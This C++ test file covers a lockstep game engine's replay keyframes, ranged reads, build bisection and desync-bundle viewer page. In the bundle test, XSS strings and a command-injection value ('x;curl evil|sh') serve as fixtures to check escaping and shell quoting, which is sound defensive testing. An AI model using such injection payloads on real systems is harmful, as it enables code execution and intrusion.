// Replays with keyframes (format 4), ranged reads, desync bundles and the viewer page's data.
#include <doctest/doctest.h>
#include <flatbuffers/flatbuffers.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "lockstep/arena.hpp"
#include "lockstep/bisect.hpp"
#include "lockstep/desync_bundle.hpp"
#include "lockstep/desync_page.hpp"
#include "lockstep/replay.hpp"
#include "lockstep/scenario.hpp"
#include "lockstep/state_hash.hpp"
#include "lockstep/wire/replay_generated.h"
#include "support/parting_arena.hpp"
#include "support/files.hpp"

using namespace lockstep;
using lockstep::testing::slurp;
using lockstep::testing::spit;

namespace {

namespace fs = std::filesystem;

fs::path temp_path(const std::string& name) {
  return fs::temp_directory_path() / ("lockstep-kf-" + std::to_string(::getpid()) + "-" + name);
}
// The arena's state at tick t of its golden scenario, stepped from tick 0.
std::vector<std::uint8_t> state_at(Tick t) {
  const Scenario sc = golden_scenario(arena_module());
  auto sim = arena_module().create(sc.world);
  for (Tick s = 1; s <= t; ++s) sim->step(scenario_frame(sc, s));
  std::vector<std::uint8_t> out;
  sim->serialize(out);
  return out;
}

}  // namespace

TEST_SUITE("core/keyframes") {
  TEST_CASE("keyframes are written at the interval, read back checked, and a ranged read starts from the latest before its tick") {
    const Replay r = scenario_replay(golden_scenario(arena_module()), 1050, 200);
    REQUIRE(r.keyframes.size() == 5);
    const fs::path p = temp_path("kf.replay");
    std::string error, detail;
    REQUIRE(write_replay(p.string(), r, &error));
    Replay all;
    REQUIRE(read_replay(p.string(), &all, &detail) == ReplayError::None);
    CHECK(all.header.format_version == kReplayFormatVersion);
    CHECK(all.header.keyframe_interval == 200);
    CHECK(all.keyframe_ticks == std::vector<Tick>{200, 400, 600, 800, 1000});
    CHECK(all.frames == r.frames);
    CHECK(all.keyframes[2].state == state_at(600));  // the state stepped there from tick 0
    Replay part;
    REQUIRE(read_replay(p.string(), &part, &detail, {777, 790}) == ReplayError::None);
    CHECK(part.frames_from == 600);
    REQUIRE(part.keyframes.size() == 1);
    CHECK(part.keyframes[0].tick == 600);
    CHECK(part.frames.front().tick == 601);
    CHECK(part.frames.back().tick == 790);
    CHECK(part.last_tick == 1050);
    CHECK(part.hash_at(700) == r.hashes[699]);
    // A keyframe whose bytes were altered, the file's checksums made good again, is refused: it
    // no longer hashes to its recorded hash.
    const Replay bad_source = [&] {
      Replay b = r;
      b.keyframes[1].state[10] ^= 1;
      return b;
    }();
    REQUIRE(write_replay(p.string(), bad_source, &error));
    CHECK(read_replay(p.string(), &part, &detail) == ReplayError::Corrupt);
    CHECK_MESSAGE(detail.find("does not hash to its recorded hash") != std::string::npos, detail);
    // A keyframe that hashes to its bytes but not to the recorded hash of its tick is refused too.
    Replay other = r;
    other.keyframes[1].state = state_at(401);
    other.keyframes[1].hash = hash_bytes(other.keyframes[1].state);
    REQUIRE(write_replay(p.string(), other, &error));
    CHECK(read_replay(p.string(), &part, &detail) == ReplayError::Corrupt);
    CHECK_MESSAGE(detail.find("differs from the hash recorded for its tick") != std::string::npos, detail);
    fs::remove(p);
  }

  TEST_CASE("a keyframe that came later than its tick (a voter's, in relay mode) reads back, and one out of order is refused") {
    const Replay r = scenario_replay(golden_scenario(arena_module()), 450, 0);
    const fs::path p = temp_path("late.replay");
    std::string error, detail;
    const auto write = [&](std::initializer_list<std::pair<Tick, Tick>> keyframes) {  // (tick, written after this tick)
      ReplayWriter w;
      ReplayHeader h = r.header;
      h.keyframe_interval = 100;
      REQUIRE(w.open(p.string(), h, &error));
      for (std::size_t i = 0; i < r.frames.size(); ++i) {
        w.add(r.frames[i], r.hashes[i]);
        for (const auto& [k, after] : keyframes)
          if (after == r.frames[i].tick) {
            const auto state = state_at(k);
            w.add_keyframe(k, hash_bytes(state), state);
          }
      }
      w.close(450, "test");
    };
    write({{150, 230}, {300, 301}});
    Replay back;
    REQUIRE(read_replay(p.string(), &back, &detail, {320, 0}) == ReplayError::None);
    CHECK(back.keyframe_ticks == std::vector<Tick>{150, 300});
    CHECK(back.frames_from == 300);
    CHECK(back.frames.front().tick == 301);
    write({{300, 310}, {150, 320}});  // the second goes back before the first
    CHECK(read_replay(p.string(), &back, &detail) == ReplayError::Corrupt);
    CHECK_MESSAGE(detail.find("out of place") != std::string::npos, detail);
    fs::remove(p);
  }

  TEST_CASE("a replay's header reads alone, and a read of no frames decodes none: what seek at the first tick needs") {
    const Replay r = scenario_replay(golden_scenario(arena_module()), 3000, 1000);
    const auto p = std::filesystem::temp_directory_path() / ("lockstep-header-" + std::to_string(::getpid()));
    std::string error;
    REQUIRE(write_replay(p.string(), r, &error));
    ReplayHeader h;
    REQUIRE(read_replay_header(p.string(), &h, &error) == ReplayError::None);
    CHECK(h.module == "arena");
    CHECK(h.world.players == r.header.world.players);
    CHECK(h.keyframe_interval == 1000);
    Replay none;
    REQUIRE(read_replay(p.string(), &none, &error, {0, 0, false}) == ReplayError::None);
    CHECK(none.frames.empty());
    CHECK(none.last_tick == 3000);
    CHECK(none.keyframe_ticks.size() == 3);  // 1000, 2000 and 3000, from the end record's index
    Replay some;
    REQUIRE(read_replay(p.string(), &some, &error, {1500, 1500}) == ReplayError::None);
    CHECK(some.frames_from == 1000);
    CHECK(some.frames.size() == 500);
    // A header cut short, a file of another kind, a missing file: each refused with its kind.
    const auto bytes = replay_bytes(r);
    {
      std::ofstream out(p, std::ios::binary | std::ios::trunc);
      out.write(reinterpret_cast<const char*>(bytes.data()), 30);
    }
    CHECK(read_replay_header(p.string(), &h, &error) == ReplayError::Truncated);
    {
      std::ofstream out(p, std::ios::binary | std::ios::trunc);
      out << "not a replay at all, just some text of a reasonable length";
    }
    CHECK(read_replay_header(p.string(), &h, &error) == ReplayError::NotAReplay);
    std::filesystem::remove(p);
    CHECK(read_replay_header(p.string(), &h, &error) == ReplayError::CannotOpen);
  }

  TEST_CASE("a ranged read takes the header, the end record's index and the records it needs, and gives what a whole read gives") {
    const Replay r = scenario_replay(golden_scenario(arena_module()), 6000, 1000);
    const fs::path p = temp_path("indexed.replay");
    std::string error, detail;
    REQUIRE(write_replay(p.string(), r, &error));
    const std::vector<std::uint8_t> bytes = slurp(p);
    const auto same = [&](ReplayRange range) {
      Replay through_index, whole;
      REQUIRE(read_replay(p.string(), &through_index, &detail, range) == ReplayError::None);
      REQUIRE(parse_replay(bytes, &whole, &detail, range) == ReplayError::None);
      CHECK(through_index.frames == whole.frames);
      CHECK(through_index.hashes == whole.hashes);
      CHECK(through_index.frames_from == whole.frames_from);
      CHECK(through_index.keyframe_ticks == whole.keyframe_ticks);
      REQUIRE(through_index.keyframes.size() == whole.keyframes.size());
      for (std::size_t i = 0; i < whole.keyframes.size(); ++i) {
        CHECK(through_index.keyframes[i].tick == whole.keyframes[i].tick);
        CHECK(through_index.keyframes[i].state == whole.keyframes[i].state);
      }
      CHECK(through_index.last_tick == whole.last_tick);
      CHECK(through_index.complete);
      CHECK(through_index.end_reason == whole.end_reason);
      CHECK(through_index.header.world.settings == whole.header.world.settings);
      return through_index.bytes_read;
    };
    // A seek's reads: a little of the file each, whatever the tick.
    for (const ReplayRange range : {ReplayRange{2500, 2600}, ReplayRange{5999, 5999}, ReplayRange{3000, 3000},
                                    ReplayRange{1, 1}, ReplayRange{0, 0, false}, ReplayRange{4200, 0, false}})
      CHECK_MESSAGE(same(range) < bytes.size() / 4, range.from);
    CHECK(same(ReplayRange{1000, 0}) > bytes.size() / 2);  // from a keyframe to the end: most of it
    // A file without the index (written before it, or another writer) is read whole, as is one
    // whose end record is damaged: the whole read then names the fault.
    Replay golden;
    REQUIRE(read_replay(LOCKSTEP_GOLDEN_DIR "/golden.replay", &golden, &detail, {500, 600}) == ReplayError::None);
    CHECK(golden.bytes_read == fs::file_size(LOCKSTEP_GOLDEN_DIR "/golden.replay"));
    std::vector<std::uint8_t> bad = bytes;
    bad[bad.size() - 20] ^= 1;
    spit(p, bad);
    Replay back;
    CHECK(read_replay(p.string(), &back, &detail, {2500, 2600}) == ReplayError::Corrupt);
    CHECK(back.bytes_read == bad.size());
    fs::remove(p);
  }

  TEST_CASE("a replay of format 3 (no keyframes) still reads, and ranged reads of it start from tick 0") {
    Replay golden;
    std::string detail;
    REQUIRE(read_replay(LOCKSTEP_GOLDEN_DIR "/format3.replay", &golden, &detail, {2000, 0}) == ReplayError::None);
    CHECK(golden.header.format_version == 3);
    CHECK(golden.keyframe_ticks.empty());
    CHECK(golden.frames_from == 0);
    CHECK(golden.frames.size() == 3000);
  }

  TEST_CASE("bisection over keyframes finds the tick two builds part at, with fewer ticks than a linear search") {
    Module other = arena_module();
    other.create = &testing::parting_arena;
    const Replay r = scenario_replay(golden_scenario(arena_module()), 6000, 250);
    for (const Tick part : {Tick{1}, Tick{777}, Tick{5200}}) {
      CAPTURE(part);
      testing::parting_tick() = part;
      const BisectResult b = bisect_replay(arena_module().create, other.create, r, false);
      REQUIRE(b.ok);
      CHECK(b.parted);
      CHECK(b.tick == part);
      CHECK(b.difference.where != "none");
      const BisectResult lin = bisect_replay(arena_module().create, other.create, r, true);
      CHECK(lin.tick == part);
      CAPTURE(b.ticks_simulated);
      CAPTURE(b.stretches_tested);
      if (part > 2000) CHECK(b.ticks_simulated * 2 < b.linear_ticks);
    }
    testing::parting_tick() = 100000;  // never parts
    const BisectResult none = bisect_replay(arena_module().create, other.create, r, false);
    CHECK(none.ok);
    CHECK_FALSE(none.parted);
    CHECK(none.stretches_tested == none.stretches);  // "no parting" means every tick was compared
  }

  TEST_CASE("bisection finds a difference confined to a window of ticks, in order or galloping, and says whether it "
            "compared every tick before it") {
    Module other = arena_module();
    other.create = &testing::parting_arena;
    const Replay r = scenario_replay(golden_scenario(arena_module()), 6000, 250);
    testing::parting_tick() = 3610;  // in a stretch galloping never probes (0, 1, 3, 7, 15: ticks up to 4000)
    testing::parting_until() = 3710;
    for (const bool linear : {true, false}) {
      CAPTURE(linear);
      const BisectResult b = bisect_replay(arena_module().create, other.create, r, linear);
      REQUIRE(b.ok);
      CHECK(b.parted);
      CHECK(b.tick == 3610);
      CHECK(b.exhaustive);
      CHECK(b.difference.where != "none");
    }
    // A parting that lasts, found by galloping past stretches it never tested: not exhaustive.
    testing::parting_tick() = 5200;
    testing::parting_until() = 0;
    const BisectResult g = bisect_replay(arena_module().create, other.create, r, false);
    CHECK(g.tick == 5200);
    CHECK_FALSE(g.exhaustive);
    CHECK(g.stretches_tested < g.stretches);
    testing::parting_tick() = 100000;
  }

  TEST_CASE("bisection never reports a parting that does not happen again: a build that differs from itself is "
            "named as such") {
    Module other = arena_module();
    other.create = &testing::parting_arena;
    const Replay r = scenario_replay(golden_scenario(arena_module()), 3000, 250);
    testing::parting_tick() = 1;
    testing::parting_worlds_made() = 0;
    testing::parting_only_in_world() = 1;  // the first world the "b" build makes parts; none after it
    const BisectResult b = bisect_replay(arena_module().create, other.create, r, true);
    REQUIRE(b.ok);
    CHECK_FALSE(b.parted);
    CHECK(b.unsteady == "b");
    CHECK(b.tick == 1);
    CHECK(b.a_hash == b.b_hash);  // stepped again, the two agree: the first run's parting was b's own
    CHECK(r.hash_at(1) == b.a_hash);
    testing::parting_only_in_world() = 0;
    testing::parting_tick() = 100000;
  }

  TEST_CASE("a desync bundle reads back whole, is refused truncated, altered or foreign, and its page escapes every string") {
    DesyncBundle b;
    b.written_by = "server";
    b.tick = 120;
    b.report = Json{{"tick", 120}, {"where", "entity"}, {"entity", 2}, {"name", "<script>alert(1)</script>"}};
    const Scenario sc = golden_scenario(arena_module());
    Replay& r = b.replay;
    r.header.world = sc.world;
    r.header.input_size = 2;
    r.header.module = "arena";
    r.header.names = {"<script>alert(1)</script>", "b</script><b>", "c", "d"};
    r.header.start_tick = r.frames_from = 116;
    const auto start = state_at(116);
    r.keyframes.push_back({116, hash_bytes(start), start});
    auto sim = arena_module().create(sc.world);
    REQUIRE(sim->deserialize(start));
    BundleParty server{"server", {}, {}}, client{"player 1 (<img src=x onerror=alert(1)>)", {}, {}};
    for (Tick t = 117; t <= 120; ++t) {
      r.frames.push_back(scenario_frame(sc, t));
      sim->step(r.frames.back());
      r.hashes.push_back(sim->hash());
      std::vector<std::uint8_t> bytes;
      sim->serialize(bytes);
      server.hashes.emplace_back(t, hash_bytes(bytes));
      server.states.push_back({t, hash_bytes(bytes), bytes});
      if (t == 120) sim->perturb(5);
      bytes.clear();
      sim->serialize(bytes);
      client.hashes.emplace_back(t, hash_bytes(bytes));
      client.states.push_back({t, hash_bytes(bytes), bytes});
    }
    b.parties = {server, client};
    const fs::path p = temp_path("b.bundle");
    std::string error, detail;
    REQUIRE(write_bundle(p.string(), b, &error));
    CHECK(is_bundle_file(p.string()));
    DesyncBundle back;
    REQUIRE(read_bundle(p.string(), &back, &detail) == ReplayError::None);
    CHECK(back.tick == 120);
    CHECK(back.replay.frames == r.frames);
    REQUIRE(back.parties.size() == 2);
    CHECK(back.parties[1].states.back().bytes == client.states.back().bytes);
    // The page's data: the states located where they differ; its HTML holds no markup from the file.
    const Json data = bundle_page_data(arena_module(), back, "b.bundle");
    CHECK(data["difference"]["from"] == "states");
    CHECK(data["difference"]["where"] != "none");
    CHECK(data["views"].size() == 2);
    const std::string html = page_html(data);
    CHECK(html.find("<script>alert") == std::string::npos);
    CHECK(html.find("</script><b>") == std::string::npos);
    CHECK(html.find("<img src=x") == std::string::npos);
    CHECK(html.find("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e") != std::string::npos);
    // Faults: each refused with its kind and a sentence, never read.
    const auto bytes = slurp(p);
    const auto fault = [&](std::vector<std::uint8_t> bad, ReplayError want, const char* says) {
      const fs::path q = temp_path("bad.bundle");
      spit(q, bad);
      DesyncBundle out;
      std::string why;
      CHECK(read_bundle(q.string(), &out, &why) == want);
      CHECK_MESSAGE(why.find(says) != std::string::npos, why);
      fs::remove(q);
    };
    fault({bytes.begin(), bytes.begin() + static_cast<std::ptrdiff_t>(bytes.size() / 2)}, ReplayError::Truncated, "truncated");
    auto altered = bytes;
    altered[altered.size() / 2] ^= 4;
    fault(altered, ReplayError::Corrupt, "checksum mismatch");
    auto foreign = bytes;
    foreign[2] = 'X';
    fault(foreign, ReplayError::NotAReplay, "not a lockstep desync bundle");
    auto longer = bytes;
    longer.push_back(0);
    fault(longer, ReplayError::Corrupt, "data after the bundle");
    fs::remove(p);

    // Report fields of the wrong types make no page fail; a file name from the report is quoted
    // as one shell word in the commands the page offers.
    DesyncBundle odd = back;
    odd.report = Json{{"where", 5}, {"name", Json::array()}, {"entity", "x"}, {"field", 3},
                      {"differing_fields", Json::array({1, Json{{"server", 2}, {"client", "y"}}})},
                      {"replay", {{"file", "x;curl evil|sh"}, {"tick", 120}}}};
    const Json odd_data = bundle_page_data(arena_module(), odd, "b.bundle");
    CHECK(odd_data["difference"]["where"] != "none");
    const std::string commands = odd_data["commands"].dump();
    CHECK(commands.find("'x;curl evil|sh'") != std::string::npos);

    // The reference the page colours against: never the side that is wrong. A client's bundle holds
    // the client's own hashes in its replay; at the tick the server's is the reference. A bundle of
    // an outvoted server: the majority's.
    const auto reference_at = [](const Json& page, Tick t) {
      for (const Json& point : page["reference"])
        if (point[0] == t) return point[1].get<std::string>();
      return std::string();
    };
    DesyncBundle mine = back;
    mine.written_by = "client";
    mine.replay.hashes.back() = client.hashes.back().second;  // the client recorded its own
    mine.report = Json{{"tick", 120}, {"client_hash", hash_hex(client.hashes.back().second)},
                       {"server_hash", hash_hex(server.hashes.back().second)}};
    const Json mine_data = bundle_page_data(arena_module(), mine, "b.bundle");
    CHECK(reference_at(mine_data, 120) == hash_hex(server.hashes.back().second));
    CHECK(reference_at(mine_data, 119) == hash_hex(server.hashes[2].second));  // before it, the replay's
    CHECK(mine_data["reference_name"] == "reference (the server at the tick)");
    DesyncBundle outvoted = back;
    outvoted.replay.hashes.back() = client.hashes.back().second;  // the server itself went wrong
    outvoted.report = Json{{"tick", 120}, {"votes", Json::array({Json{{"hash", hash_hex(client.hashes.back().second)}, {"peers", {"server"}}},
                                                                 Json{{"hash", hash_hex(server.hashes.back().second)}, {"peers", {"p0", "p1", "p2"}}}})}};
    const Json outvoted_data = bundle_page_data(arena_module(), outvoted, "b.bundle");
    CHECK(reference_at(outvoted_data, 120) == hash_hex(server.hashes.back().second));
    CHECK(outvoted_data["reference_name"] == "reference (the majority at the tick)");
    // A split vote names no reference of its own: the replay's stays.
    outvoted.report["votes"][1]["peers"] = {"p0"};
    CHECK(reference_at(bundle_page_data(arena_module(), outvoted, "b.bundle"), 120) == hash_hex(client.hashes.back().second));
  }

  TEST_CASE("a replay record of no known kind, or a kind without its table, is refused") {
    const Replay r = scenario_replay(golden_scenario(arena_module()), 120, 0);
    std::vector<std::uint8_t> bytes = replay_bytes(r);
    // A record whose union names a kind past the schema's, the checksum made good again.
    flatbuffers::FlatBufferBuilder fbb;
    const auto end = replay::CreateReplayEnd(fbb, 120, fbb.CreateString("x"));
    fbb.Finish(replay::CreateRecord(fbb, static_cast<replay::Chunk>(9), end.Union()), replay::RecordIdentifier());
    flatbuffers::FlatBufferBuilder empty;
    replay::RecordBuilder rb(empty);
    rb.add_chunk_type(replay::Chunk::ReplayEnd);  // a kind, and no table
    empty.Finish(rb.Finish(), replay::RecordIdentifier());
    for (flatbuffers::FlatBufferBuilder* b : {&fbb, &empty}) {
      std::vector<std::uint8_t> file(bytes.begin(), bytes.end());
      // Replace the end record (the last) with this one.
      Replay cut;
      std::string detail;
      REQUIRE(parse_replay(file, &cut, &detail) == ReplayError::None);
      std::size_t pos = 8, last = 8;
      while (pos < file.size()) {
        last = pos;
        pos += 12 + (file[pos] | file[pos + 1] << 8 | file[pos + 2] << 16 | static_cast<std::size_t>(file[pos + 3]) << 24);
      }
      file.resize(last);
      std::vector<std::uint8_t> head(12);
      const std::uint32_t n = b->GetSize();
      const std::uint64_t sum = hash_bytes({b->GetBufferPointer(), n});
      for (int i = 0; i < 4; ++i) head[i] = static_cast<std::uint8_t>(n >> (8 * i));
      for (int i = 0; i < 8; ++i) head[4 + i] = static_cast<std::uint8_t>(sum >> (8 * i));
      file.insert(file.end(), head.begin(), head.end());
      file.insert(file.end(), b->GetBufferPointer(), b->GetBufferPointer() + n);
      Replay out;
      CHECK(parse_replay(file, &out, &detail) == ReplayError::Corrupt);
      CHECK_MESSAGE((detail.find("no known kind") != std::string::npos || detail.find("empty record") != std::string::npos ||
                     detail.find("does not verify") != std::string::npos), detail);
    }
  }
}
